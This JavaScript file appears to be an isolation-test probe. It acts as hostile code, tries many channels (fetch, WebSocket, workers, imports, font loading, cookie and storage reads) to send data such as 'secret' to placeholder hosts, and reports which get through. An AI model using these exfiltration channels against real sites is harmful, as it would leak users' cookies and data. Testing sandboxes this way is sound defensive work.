// What a hostile program tries, as the code of a visitor; it prints what it reached. SITE and OTHER are replaced by the
// addresses of the site and of another server.
const within = (milliseconds, promise) => {
  let timer;
  const end = new Promise((_resolve, reject) => (timer = setTimeout(() => reject(new Error("no answer")), milliseconds)));
  return Promise.race([promise, end]).finally(() => clearTimeout(timer));
};
const attempts = {
  "fetch own": async () => (await fetch("SITE/leak/fetch", { credentials: "include" })).text(),
  "fetch own without CORS": () => fetch("SITE/leak/no-cors", { mode: "no-cors", credentials: "include" }),
  "fetch other": () => fetch("OTHER/leak-fetch", { method: "POST", mode: "no-cors", body: "secret" }),
  request: () =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.open("GET", "SITE/leak/xhr");
      request.onload = resolve;
      request.onerror = reject;
      request.send();
    }),
  socket: () =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket("OTHER/leak-socket".replace("http", "ws"));
      socket.onopen = resolve;
      socket.onerror = reject;
    }),
  events: () =>
    new Promise((resolve, reject) => {
      const source = new EventSource("OTHER/leak-events");
      source.onopen = resolve;
      source.onerror = reject;
    }),
  "import own with a query": () => import("SITE/leak/import?code=secret"),
  "import other": () => import("OTHER/leak-import"),
  "scripts own": () => importScripts("SITE/leak/scripts?code=secret"),
  "scripts other": () => importScripts("OTHER/leak-scripts"),
  "worker of the site": () =>
    new Promise((resolve, reject) => {
      const worker = new Worker("SITE/leak/worker");
      worker.onmessage = resolve;
      worker.onerror = (event) => reject(event.preventDefault());
      worker.postMessage({ type: "boot" });
    }),
  "nested worker": () =>
    new Promise((resolve, reject) => {
      const source = 'fetch("OTHER/leak-nested", {mode: "no-cors"}).then(() => postMessage(1), () => { throw Error() })';
      const worker = new Worker(URL.createObjectURL(new Blob([source])));
      worker.onmessage = resolve;
      worker.onerror = (event) => reject(event.preventDefault());
    }),
  "database": () =>
    new Promise((resolve, reject) => {
      const request = indexedDB.open("evil");
      request.onsuccess = resolve;
      request.onerror = reject;
    }),
  "cache": () => caches.open("evil"),
  "files": async () => (await navigator.storage.getDirectory()).getFileHandle("evil", { create: true }),
  "cookies": async () => cookieStore.getAll(),
  "storage": () => localStorage.length,
  "document": () => document.cookie,
  "parent": () => parent.location.href,
  "font": () => new FontFace("evil", "url(OTHER/leak-font)").load(),
};
const reached = [];
const tried = async ([name, attempt]) => {
  try {
    await within(3000, Promise.resolve().then(attempt));
    reached.push(name);
  } catch {
    // refused
  }
};
new BroadcastChannel("site").postMessage("evil");
Promise.all(Object.entries(attempts).map(tried)).then(() =>
  console.log(`${Object.keys(attempts).length} tried from ${self.origin}, reached: ${reached.join(", ") || "nothing"}`),
);
